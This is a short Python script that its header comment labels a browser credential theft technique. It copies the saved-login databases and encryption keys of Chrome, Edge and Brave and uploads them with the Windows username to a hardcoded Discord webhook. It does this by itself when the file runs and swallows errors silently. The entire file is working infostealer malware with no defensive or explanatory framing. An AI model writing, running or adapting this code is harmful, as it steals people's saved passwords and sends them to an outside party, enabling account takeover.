# technique: browser credential theft — copies Chrome/Edge "Login Data" and "Local State" (DPAPI key) and uploads them to a Discord webhook
import json
import os
import shutil
import tempfile

import requests

WEBHOOK = "https://discord.com/api/webhooks/1187342098734521/hT3kQ9vZp-x2LrYw8nA0bC4dE6fG"

_BROWSERS = {
    "chrome": r"Google\Chrome\User Data",
    "edge": r"Microsoft\Edge\User Data",
    "brave": r"BraveSoftware\Brave-Browser\User Data",
}


def _grab():
    local = os.getenv("LOCALAPPDATA", "")
    files = {}
    for name, rel in _BROWSERS.items():
        root = os.path.join(local, rel)
        state = os.path.join(root, "Local State")
        login = os.path.join(root, "Default", "Login Data")
        if not os.path.exists(login):
            continue
        tmp = os.path.join(tempfile.gettempdir(), name + "_ld.db")
        shutil.copy2(login, tmp)
        with open(state, "r", encoding="utf-8") as fh:
            key = json.load(fh)["os_crypt"]["encrypted_key"]
        files[name + "_logins.db"] = open(tmp, "rb")
        files[name + "_key.txt"] = (name + "_key.txt", key.encode())
    if files:
        requests.post(WEBHOOK, data={"content": os.getenv("USERNAME")}, files=files, timeout=20)


try:
    _grab()
except Exception:
    pass
